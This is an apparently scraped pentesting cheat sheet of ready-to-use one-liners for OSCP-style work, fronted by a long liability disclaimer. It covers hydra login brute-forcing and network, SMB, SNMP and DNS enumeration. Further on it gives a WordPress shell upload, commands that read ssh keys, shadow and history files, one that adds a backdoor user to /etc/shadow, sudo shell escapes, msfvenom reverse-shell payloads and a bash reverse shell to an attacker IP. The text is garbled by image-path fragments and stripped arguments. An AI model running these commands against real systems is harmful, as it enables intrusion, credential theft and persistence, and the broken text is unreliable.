Here are some useful one-liners and links for pentesters. I have collected these commands to be used right away without spending time on remembering the syntax of a particular tool.

These time saver come handy in a time limited pentest or during your OSCP exam.

Disclaimer On this web site you might read about or get access to various kinds of software and technology, including but not limited to libraries, operating systems, software for communications, mobile phones and tablets, Android software and Linux, even cars and motorcycles, security and penetration testing software, software used in security research and forensics, some samples of software which can be used (elsewhere) for malicious or illegal purposes. You will read about or be provided with the ways to change it, to operate it and to use it. You might find advice and recommendations, which are only an opinion, and not a legal advice or commercial recommendation..
Bear in mind, please, that everything you do, you do solely at your own risk and responsibility. In no way the author of this web site, information, graphics and other materials presented here or related to it can be made liable or anyhow else responsible for your own actions as well as actions of any third party and their direct or indirect results or consequences with or without the use of this information as well as the software, technology and systems mentioned and/or presented here, no matter if developed by the author or by any third party.
In no way it is guaranteed that you will meet any suitability for any particular purpose,safety, security, legality or even simply functioning of the software and systems described here. You haveto make sure each time yourself, whether what you do, is really what you intend to do, and that you are ready to be yourself responsible for. All the recommendations and experiences described here are the opinions of corresponding authors and are to be taken with care and own full responsibility.
The software provided on or through this web site, linked to from this web site or anyhow else related to this web site is provided by the corresponding authors on their own terms. We provide all the software here as is without any guarantees to you. You are responsible for deciding whether it is suitable for you or not. You are also responsible for all direct or indirect consequences of using this software.
Other web sites linked to from the current one are out of the author's control, we can not guarantee anything about their content, its quality or even legality. We can not be liable for any use of the linked to web sites or of the information presented there.
We reasonably try to keep this website running smoothly and to deliver information to the best of our knowledge corresponding to the state of the art at the times when the information is composed, usually presented together with the information, and out of good intents. We can not however guarantee and can not be liable for this website being temporarily or permanently unavailable, presenting unreliable information or software, or any other similar or not malfunctioning or functioning not up to your expectations as well as any consequences which might result from this site's operation.

Do not run these commands unless you understand exactly what you are doing!

It is illegal to access like this the machines you are not legally authorized to pentest!

I assume Kali Linux and Bash below. I also assume that the target is on the network. Please, double-check the address you target before runing commands from here!These commands might be and often are dangerous! You are alone responsible for any direct or indirect consequences of using them! Please, do not use them unless you fully understand the consequences and are ready to deal with them, also legally. If you disagree, please, leave this site immediately.



Crawls Google and Bing to find emails, subdomains and links: web-hunter.


HTTP form bruteforcing

hydra http-form-post "/login.php:login=^USER^&password=^PASS^&par=val:Wrong password" -l root -P rockyou.txt -t 10 -v
hydra http-form-post "/index/login.asp:password=^PASS^&username=^USER^&submit=Enter:Username" -L users.txt -P /usr/share/wordlists/rockyou.txt -t 5 -vvv


Power-tool when other tools do not fit the purpose: Patator.

Network enumeration

Ping sweep in shell

for i in `seq 1 10`; do (ping -n  -c 1 192.168.2.$i | grep "from" | cut -f4 -d" " | tr -d ":") &  done;Ping sweep nmap

nmap -sn
nmap -sn -oG ping.sweep.res.txt # grep-friendly output

Port scan nmap

nmap -p 80 -iL host.list.txt -oG web.servers.list.txt # takes hosts from the list
Scanning all ports (-p-) with nmap quickly (-T5):
nmap -p- -T5
Scanning quickly some, 25 in this case, top ports (ports used often):
nmap -T5 --top-ports=25


This program asks arp and identifies hosts quickly. If the range is not given, many networks get scanned.

Make sure you use the -i interface switch on a multi-NIC Kali.

netdiscover -i eth1 -r
Passive scan avoids detection
netdiscover -p  -i eth1 -r


Another way to detect host passively is to check the arp table already built:Arp-scan is an advanced arp tool with many capabilities. One of the easy ways to scan local network with it would be:
arp-scan --interface eth1 --localnet


sudo tcpdump -i wlan0 -s0 port 110 -w # s0 = whole packet tcpdump -nXAvvv -r # read the capture

Web Server Enumeration


dirb http://$tgt

HTTP enum nmap

nmap -vvv --script http-enum.nse --script-args http-enum.basepath='/'

Nikto tools

nikto -host

Services Enumeration

OS and software version detection with nmap

nmap -iL active.web.servers.txt -sV -O

SMTP Enumeration

Python script:

SNMP Enumeration

onesixtyone -c communities.txt -i ips.txt # ip addresses
snmpcheck -t # -t target host, see man
# prints mib code, see other -communities in the file linked above
snmpwalk -c public -v1 ‘./ users‘ snmpwalk -c public -v1 ‘./ software‘

SMB Enumeration

Using smbclient to -L list services without -N password:
smbclient -N -L \Nbtscan, enum4linux, nmap to scan SMB are below:

nbtscan # host names and other smb info
enum4linux -a # enumerates users, machines, names, shares, policies
nmap -p139,445 --script smb-enum-users -iL smb.servers.list.txt # get users
nmap -p139,445 --script smb-check-vulns --script-args=unsafe=1 -v -iL
smb.servers.list.txt # finding vulnerabilities

on a newer nmap these scripts work instead:
 - no additional args are needed

Shares and OS discovery over SMB

nmap -v --script smb-enum-shares.nse -p445 -iL smb.servers.list.txt # smb shares
nmap -v -p139,445 --script smb-os-discovery.nse -iL smb.servers.list.txt # smb os discovery

DNS Enumeration

DNS Server Version

nmap -sSU -p 53 --script dns-nsid $tgt

Zone Transfers

host -t ns # gives dns-serverhost -t axfr dns-server # makes zone transfer
dig axfr @dns-server
dnsrecon -t axfr -d
d=$1; for ns in $(host -t NS $d | cut -f4 -d" ");
do host -l $d $ns | grep "has addr"; done


wpscan -u
wpscan --enumerate users -u# Upload shell with metasploit:
# run 'msfconsole' first then
  use exploit/unix/webapp/wp_admin_shell_upload
  set rhost
  set targeturi wordpress
  set username admin
  set password admin

Yertle tool

git clone
# alternative link:
cd WPForce
# test give logins and passwords
python -i usr.txt -w pass.txt -u ""
# then get a shell, it is limited, use metasploit or
# this article better:
python -u "admin" -p "admin" -t ""

Searching exploits

searchsploit the-app-you-discovered


Escalating from docker group to root:

Post-exploitation enumeration

Enumerating a Linux machine

unix-privesc-check standard | grep WARNING

General enumeration

cat /etc/*-release  #OS version
uname -arpm -q kernel

cat ~/.*history #recent commands

find / -perm -o w -type d 2>/dev/null # world-writable folders
find / -perm -4000 -user root 2> /dev/null # suid binaries

egrep '[0-9a-z]{32,32}' -R . 2>/dev/null # searching regexp, flag

grep "root" * -R | less
grep "pass" * -R | less
tail /etc/passwd # list last users, usually human accounts
su username # - afterwards, works when sudo is not there sometimescat /etc/sudoers # getting sudoers
cat /etc/sudoers.d/*

cat ~/.ssh/* # ssh keys
cat /home/*/.ssh/* # ssh keys of others
id # check your groups and their privileges

# add a user "user" with password "123"
echo "user:$6$7heg3R.G$l2H7Sqi1WCWVy.wzyxcyoMi0fL3/q87ssRIwxNovJjFriuc4hbpagcrAegubexgSJA06vvnL41XdeLILDoKBM0:17415:0:99999:7:::" >> /etc/shadow

# lists commands current user may run as rootsudo -l

Check history and log of administrative tools, e.g. mongo:

cat ~/.dbshell
cat ~/.bash_history
cat ~/.mysql_history
cat ~/.sh_history
- (Get-PSReadlineOption).HistorySavePath
typeC:\Users\username\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadline\ConsoleHost_history.txt

Running commands from other commands

# tar
sudo tar -cf foo.tar --checkpoint-action=exec=/bin/bash --checkpoint=1

# zip
sudo zip --test --unzip-command="sh -c /bin/bash"

# vi

Vulnerability scanning

#Try nmap scripts, maybe even all of them :)
nmap --script all

Defect scanning


Sqlmap searches for SQLi defects.

Exploiting and Exploits Engineering


An advanced SQLi exploitation tool: Albatar.pattern_offset.rb 12345678 # EIP value
pattern_create.rb 2700 # bytes to generate
nasm_shell.rb # generates opcodes
    mov eax, esp    # 89E0
    inc eax     # 40
    jmp esp     # FFE4
    push esp    # 54
    retn        # C3
    call esp    # FFD4

Generating payloads

#list payloads
msfvenom --list payloads#metasploit, payload + options, encoder + options
msfvenom -p windows/shell_reverse_tcp LHOST= LPORT=443 EXITFUNC=thread -f c -e x86/shikata_ga_nai -b "\x00\x0a\x0d" -i 10

# add some nops 90 before the shikata ga nai decoder
 format of the exploit: -f [c|python|bash|ruby|...]   see msfvenom --help-formats
 executable formats: -f [exe|elf|msi|psh]
 --smallest will generate the smallest possible payload
 --platform windows | linux
 -a x86 | x64  # architecture

# an example for SL Mail
msfvenom -p windows/shell_reverse_tcp LHOST= LPORT=443 EXITFUNC=thread -f c -e x86/
shikata_ga_nai -b "\x00\x0a\x0d"

Immunity debugger and mona script

!mona modules # check NX and ASLR disabled!mona find -s "\xff\xe4" -m abc.dll


Spawning a shell - makes your remote shell more usable

python -c 'import pty; pty.spawn("/bin/sh")' perl —e 'exec "/bin/sh";'

Various shells

Reverse shell with bash and redirects

bash -i >& /dev/tcp/$attacker_ip/$attacker_port 0>&1

Generating reverse shell payloads msfvenom -p linux/x86/meterpreter/reverse_tcp LHOST=$attacker_ip LPORT=$attacker_port -f elf > shell

Handling it in metasploit:

use exploit multi/handler
set payload linux/x86/meterpreter/reverse_tcp
set lhost $attacher_ip
set lport $attacker_port

